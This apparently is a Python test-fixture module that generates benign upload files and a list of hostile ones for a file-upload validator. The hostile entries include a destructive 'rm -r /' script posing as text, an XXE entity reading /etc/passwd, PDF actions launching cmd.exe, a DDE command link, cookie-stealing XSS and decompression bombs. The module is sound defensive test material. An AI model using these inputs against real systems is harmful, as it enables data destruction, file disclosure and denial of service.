"""Files for uploading, made here: a good one of each kind, and those that must not get in.

`GOOD` and `HOSTILE` map a name for the test to the name of the file and what makes its bytes.
"""

import copy
import random
import struct
import zipfile
import zlib
from email.message import EmailMessage
from functools import cache
from io import BytesIO
from itertools import pairwise

import docx
import openpyxl
import pikepdf
from PIL import Image

PROGRAM = b"MZ\x90\0" + b"\0" * 60 + b"This program cannot be run in DOS mode."
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 60
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# --- Archives ----------------------------------------------------------------------------------------------------


def archive(parts, method=zipfile.ZIP_DEFLATED):
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", method) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return stream.getvalue()


def changed(data, changes=None, more=None, without=()):
    """The archive with some parts put through functions, some added and some left out."""
    with zipfile.ZipFile(BytesIO(data)) as old:
        parts = {name: old.read(name) for name in old.namelist() if name not in without}
    for name, change in (changes or {}).items():
        parts[name] = change(parts[name])
    return archive(parts | (more or {}))


def with_type(content_type, part="/word/vbaProject.bin"):
    """Changes [Content_Types].xml so that it names one more part."""
    override = f'<Override PartName="{part}" ContentType="{content_type}"/></Types>'.encode()
    return {"[Content_Types].xml": lambda text: text.replace(b"</Types>", override)}


def relations(*lines):
    inside = "".join(f'<Relationship Id="r{number}" {line}/>' for number, line in enumerate(lines))
    return f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}">{inside}</Relationships>'


@cache
def word():
    stream = BytesIO()
    document = docx.Document()
    document.add_paragraph("Minutes of the improvement board")
    document.save(stream)
    return stream.getvalue()


@cache
def workbook():
    stream = BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["Audit", 12])
    book.save(stream)
    return stream.getvalue()


def slides(more=None):
    main = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    return archive(
        {
            "[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="{TYPES}">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/ppt/presentation.xml" ContentType="{main}"/></Types>',
            "_rels/.rels": relations(f'Type="{OFFICE}/officeDocument" Target="ppt/presentation.xml"'),
            "ppt/presentation.xml": '<?xml version="1.0"?><p:presentation '
            'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
            **(more or {}),
        }
    )


def open_document(kind, more=None, manifest=""):
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}", zipfile.ZIP_STORED)
        package.writestr("content.xml", '<?xml version="1.0"?><document/>')
        package.writestr(
            "META-INF/manifest.xml",
            f'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">{manifest}</m:manifest>',
        )
        for name, content in (more or {}).items():
            package.writestr(name, content)
    return stream.getvalue()


def bomb():
    """101 MB of nothing, which pack into a hundred kilobytes."""
    return changed(word(), more={"word/media/nothing.bin": b"\0" * (101 * 1024 * 1024)})


def lying_bomb():
    """The same, but its headers say that the part has a thousand bytes."""
    size = 101 * 1024 * 1024
    return bomb().replace(struct.pack("<I", size), struct.pack("<I", 1000))


def overlapping():
    """Many parts that are all the same bytes of the file."""
    stream = BytesIO(word())
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/media/0.bin", random.Random(1).randbytes(5000))
        for number in range(1, 100):
            again = copy.copy(package.getinfo("word/media/0.bin"))
            again.filename = f"word/media/{number}.bin"
            package.filelist.append(again)
            package.NameToInfo[again.filename] = again
    return stream.getvalue()


# --- PDF ---------------------------------------------------------------------------------------------------------


def pdf(prepare=None, **options):
    stream = BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        if prepare:
            prepare(document)
        # The parts are packed, so that no word of theirs stands in the file.
        document.save(stream, object_stream_mode=pikepdf.ObjectStreamMode.generate, **options)
    return stream.getvalue()


def opens_with(**action):
    def prepare(document):
        document.Root.OpenAction = pikepdf.Dictionary(**action)

    return prepare


def attaches(document):
    document.attachments["macro.docm"] = b"anything"


# --- Pictures ----------------------------------------------------------------------------------------------------


def picture(form, size=(30, 20), **options):
    stream = BytesIO()
    drawn = Image.effect_noise(size, 60).convert("RGB") if size[0] < 1000 else Image.new("RGB", size, "teal")
    drawn.save(stream, form, **options)
    return stream.getvalue()


def photograph():
    """A picture that says where it was taken, is stored on its side, and has a comment."""
    exif = Image.Exif()
    exif[0x0112] = 6  # to be turned
    exif[0x010E] = "Taken at 12 Rowan Street"
    exif.get_ifd(0x8825)[1] = "N"
    return picture("JPEG", exif=exif, comment=b"of a family")


def huge_png(width=60_000, height=60_000):
    """A small file that unpacks to a picture of gigabytes."""

    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1_000_000))
        + chunk(b"IEND", b"")
    )


# --- Messages ----------------------------------------------------------------------------------------------------


def mail(*attached, html=""):
    """An e-mail with attachments, each a name and its bytes."""
    message = EmailMessage()
    message["From"], message["To"] = "ofsted@example.org", "board@council.example"
    message["Subject"] = "Letter after the monitoring visit"
    message.set_content("See the letter.")
    if html:
        message.add_alternative(html, subtype="html")
    for name, content in attached:
        message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes()


def compound(tree):
    """A compound file of nested dictionaries, with bytes for its streams (version 3)."""
    entries, minis, bodies = [], bytearray(), []

    def add(name, content):
        number = len(entries)
        entries.append(None)
        if isinstance(content, dict):
            children = [add(*each) for each in content.items()]
            for one, other in pairwise(children):
                entries[one]["right"] = other
            entry = {"kind": 1, "child": children[0] if children else None, "start": 0, "size": 0}
        else:
            entry = {"kind": 2, "child": None, "start": None, "size": len(content)}
            if len(content) < 4096:
                entry["start"] = len(minis) // 64
                minis.extend(content.ljust(-(-len(content) // 64) * 64, b"\0"))
            else:
                bodies.append((number, content))
        entries[number] = {"name": name, "right": None, **entry} | {
            key: value for key, value in (entries[number] or {}).items() if key == "right"
        }
        return number

    add("Root Entry", tree)
    entries[0]["kind"] = 5
    sectors, following = [], []

    def put(content):
        """The number of its first sector."""
        first, count = len(sectors), max(1, -(-len(content) // 512))
        for number in range(count):
            sectors.append(content[number * 512 : number * 512 + 512].ljust(512, b"\0"))
            following.append(len(sectors) if number < count - 1 else 0xFFFFFFFE)
        return first

    for number, content in bodies:
        entries[number]["start"] = put(content)
    entries[0]["start"], entries[0]["size"] = put(bytes(minis)), len(minis)
    used, mini_table = 0, []
    for entry in entries:
        if entry["kind"] == 2 and entry["size"] < 4096 and entry["size"]:
            used = -(-entry["size"] // 64)
            mini_table += [entry["start"] + step + 1 for step in range(used - 1)] + [0xFFFFFFFE]
    first_mini_table = put(struct.pack(f"<{len(mini_table)}I", *mini_table))
    directory = b""
    for entry in entries:
        name = (entry["name"] + "\0").encode("utf-16-le")
        right, child = (0xFFFFFFFF if entry[key] is None else entry[key] for key in ("right", "child"))
        directory += struct.pack("<64sHBBIII", name, len(name), entry["kind"], 1, 0xFFFFFFFF, right, child)
        directory += b"\0" * 36 + struct.pack("<IQ", entry["start"], entry["size"])
    first_directory = put(directory)
    table_sectors = -(-(len(sectors) + 8) // 127)
    first_table = len(sectors)
    table = following + [0xFFFFFFFD] * table_sectors
    table += [0xFFFFFFFF] * (table_sectors * 128 - len(table))
    packed = struct.pack(f"<{len(table)}I", *table)
    tables = [first_table + number for number in range(table_sectors)] + [0xFFFFFFFF] * (109 - table_sectors)
    header = OLE + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIIIIII", 0, table_sectors, first_directory, 0, 4096, first_mini_table, 1, 0xFFFFFFFE, 0)
    return (header + struct.pack("<109I", *tables)).ljust(512, b"\0") + b"".join(sectors) + packed


def outlook(*attached, more=None):
    """A message of Outlook with attachments, each a name and its bytes."""
    storages = {
        f"__attach_version1.0_#{number:08X}": {
            "__properties_version1.0": b"\0" * 8,
            "__substg1.0_3707001F": name.encode("utf-16-le"),
            "__substg1.0_37010102": content,
        }
        for number, (name, content) in enumerate(attached)
    }
    words = {"__substg1.0_0037001F": "Letter after the visit".encode("utf-16-le")}
    return compound({"__properties_version1.0": b"\0" * 32, **words, **storages, **(more or {})})


# --- The two lists -----------------------------------------------------------------------------------------------

MACRO_BOOK = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def macro_word():
    """What Word saves as .docm: the types say it too."""
    as_macro = {"[Content_Types].xml": lambda text: text.replace(PLAIN_WORD.encode(), MACRO_WORD.encode())}
    return changed(word(), as_macro, {"word/vbaProject.bin": OLE + b"\0" * 600})


def macro_book():
    return changed(workbook(), more={"xl/vbaProject.bin": OLE})


def with_template():
    """A document that fetches its template, with whatever macros that has, from another server."""
    line = f'Type="{OFFICE}/attachedTemplate" Target="https://elsewhere.example/t.dotm" TargetMode="External"'
    return changed(word(), more={"word/_rels/settings.xml.rels": relations(line)})


GOOD = {
    "a PDF": ("Report.pdf", pdf),
    "a Word document": ("Minutes.docx", word),
    "an Excel workbook": ("Audit.xlsx", workbook),
    "slides": ("Board.pptx", slides),
    "slides with a chart": ("Chart.pptx", lambda: slides({"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": workbook()})),
    "an OpenDocument text": ("Minutes.odt", lambda: open_document("text")),
    "an OpenDocument spreadsheet": ("Audit.ods", lambda: open_document("spreadsheet")),
    "a PNG": ("Wall.png", lambda: picture("PNG")),
    "a JPEG": ("Wall.jpg", lambda: picture("JPEG")),
    "a JPEG by its long name": ("Wall.JPEG", photograph),
    "text": ("Notes.txt", lambda: "What children said: “better”.\r\n".encode()),
    "text of an old Windows": ("Notes.txt", lambda: "Café at £5".encode("cp1252")),
    "text in UTF-16": ("Notes.txt", lambda: "Café".encode("utf-16")),
    "a table of text": ("Audit.csv", lambda: b"Case,Grade\n1,Good\n"),
    "an e-mail": ("Letter.eml", lambda: mail(("Report.pdf", pdf()), ("logo.png", picture("PNG")), html="<p>See</p>")),
    "a message of Outlook": ("Letter.msg", lambda: outlook(("Minutes.docx", word()), ("a.txt", b"Short."))),
}

HOSTILE = {
    "nothing": ("Report.pdf", lambda: b""),
    "blank": ("Notes.txt", lambda: b" \r\n\0"),
    "a program": ("setup.exe", lambda: PROGRAM),
    "a program as PDF": ("Report.pdf", lambda: PROGRAM),
    "a program as Word": ("Report.docx", lambda: PROGRAM),
    "a program as text": ("Report.txt", lambda: PROGRAM),
    "a program as message": ("Report.msg", lambda: PROGRAM),
    "a Linux program as table": ("Audit.csv", lambda: ELF),
    "a Linux program as picture": ("Wall.png", lambda: ELF),
    "a script as text": ("Notes.txt", lambda: b"#!/bin/sh\nrm -r /\n"),
    "an SVG": ("Chart.svg", lambda: SVG),
    "an SVG as PNG": ("Chart.png", lambda: SVG),
    "an SVG as text": ("Chart.txt", lambda: SVG),
    "a page": ("Page.html", lambda: HTML),
    "a page as PDF": ("Page.pdf", lambda: HTML),
    "a page after a PDF’s first line": ("Page.pdf", lambda: b"%PDF-1.4\n" + HTML + b"\n%%EOF"),
    "a page after a PDF’s last line": ("Page.pdf", lambda: pdf() + HTML),
    "a page as text in UTF-16": ("Page.txt", lambda: HTML.decode().encode("utf-16")),
    "a page as table": ("Page.csv", lambda: b"\xef\xbb\xbf \n" + HTML),
    "a page as e-mail": ("Page.eml", lambda: HTML),
    "XML as text": ("Data.txt", lambda: b"<?xml version='1.0'?><x/>"),
    "a macro document": ("Form.docm", macro_word),
    "a macro document as plain": ("Form.docx", macro_word),
    "a document with a macro part": ("Form.docx", lambda: changed(word(), more={"word/vbaProject.bin": OLE})),
    "a workbook of macros": ("Sums.xlsm", macro_book),
    "a workbook with a macro part": ("Sums.xlsx", macro_book),
    "a workbook with a macro type": ("Sums.xlsx", lambda: changed(workbook(), with_type(MACRO_BOOK, "/xl/m.xml"))),
    "an old macro sheet": (
        "Sums.xlsx",
        lambda: changed(workbook(), with_type("application/vnd.ms-excel.macrosheet+xml", "/xl/macrosheets/1.xml")),
    ),
    "ActiveX": (
        "Form.docx",
        lambda: changed(word(), with_type("application/vnd.ms-office.activeX+xml", "/word/a.xml")),
    ),
    "an OLE object": ("Form.docx", lambda: changed(word(), more={"word/embeddings/oleObject1.bin": OLE})),
    "a program within": ("Form.docx", lambda: changed(word(), more={"word/media/image1.png": PROGRAM})),
    "a template from elsewhere": ("Form.docx", with_template),
    "a workbook that calls a program": (
        "Sums.xlsx",
        lambda: changed(workbook(), more={"xl/externalLinks/externalLink1.xml": b'<a><ddeLink ddeService="cmd"/></a>'}),
    ),
    "a chart with macros behind": ("Board.pptx", lambda: slides({"ppt/embeddings/Sheet.xlsx": macro_book()})),
    "a document within": ("Board.pptx", lambda: slides({"ppt/embeddings/Minutes.docx": word()})),
    "an archive within": ("Form.docx", lambda: changed(word(), more={"word/media/image1.png": archive({"a": "b"})})),
    "an archive": ("Files.zip", lambda: archive({"a.txt": "b"})),
    "an archive as Word": ("Files.docx", lambda: archive({"a.txt": "b"})),
    "a workbook as Word": ("Audit.docx", workbook),
    "an OpenDocument text as spreadsheet": ("Minutes.ods", lambda: open_document("text")),
    "an OpenDocument text with macros": (
        "Minutes.odt",
        lambda: open_document("text", {"Basic/Standard/Module1.xml": "<m/>"}),
    ),
    "an OpenDocument text that calls a macro": (
        "Minutes.odt",
        lambda: open_document("text", {"settings.xml": "<a href='vnd.sun.star.script:x'/>"}),
    ),
    "an OpenDocument text with a password": (
        "Minutes.odt",
        lambda: open_document("text", manifest="<m:encryption-data/>"),
    ),
    "a bomb": ("Bomb.docx", bomb),
    "a bomb that lies": ("Bomb.docx", lying_bomb),
    "overlapping parts": ("Bomb.docx", overlapping),
    "too many parts": ("Parts.docx", lambda: changed(word(), more={f"word/{n}.bin": b"" for n in range(2001)})),
    "a document type": (
        "Audit.xlsx",
        lambda: changed(
            workbook(),
            {"xl/workbook.xml": lambda text: b'<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + text},
        ),
    ),
    "a document type in the types": (
        "Audit.xlsx",
        lambda: changed(workbook(), {"[Content_Types].xml": lambda text: b"<!DOCTYPE w>" + text}),
    ),
    "an old or locked document": ("Minutes.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le") * 40),
    "an archive after a PDF": ("Minutes.docx", lambda: pdf() + word()),
    "a PDF after an archive": ("Minutes.docx", lambda: word() + pdf()),
    "a PDF with a script": ("Report.pdf", lambda: pdf(opens_with(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))),
    "a PDF that starts a program": ("Report.pdf", lambda: pdf(opens_with(S=pikepdf.Name.Launch, F="cmd.exe"))),
    "a PDF with a file": ("Report.pdf", lambda: pdf(attaches)),
    "a PDF with a password": ("Report.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="secret", owner="secret"))),
    "a huge picture": ("Wall.png", huge_png),
    "a picture just too large": ("Wall.png", lambda: picture("PNG", size=(5001, 4000))),
    "a picture of another kind": ("Wall.png", lambda: picture("JPEG")),
    "a moving picture": ("Wall.gif", lambda: picture("GIF")),
    "an e-mail with a program": ("Letter.eml", lambda: mail(("invoice.exe", PROGRAM))),
    "an e-mail with a macro document": ("Letter.eml", lambda: mail(("Form.docx", macro_word()))),
    "an e-mail with a page": ("Letter.eml", lambda: mail(("letter.html", HTML))),
    "an e-mail with an archive": ("Letter.eml", lambda: mail(("letter.zip", archive({"a.js": "x"})))),
    "an e-mail from nobody": ("Letter.eml", lambda: b"Subject: Hello\r\n\r\nHello\r\n"),
    "an old Word document as message": ("Letter.msg", lambda: compound({"WordDocument": b"\0" * 4100})),
    "a message with macros": ("Letter.msg", lambda: outlook(more={"_VBA_PROJECT_CUR": {"dir": b"x"}})),
    "a message with a program": ("Letter.msg", lambda: outlook(("invoice.exe", PROGRAM))),
    "a message with a macro document": ("Letter.msg", lambda: outlook(("Form.docx", macro_word()))),
    "another system’s device": ("CON", lambda: b"text"),
    "no ending": ("Report", pdf),
}
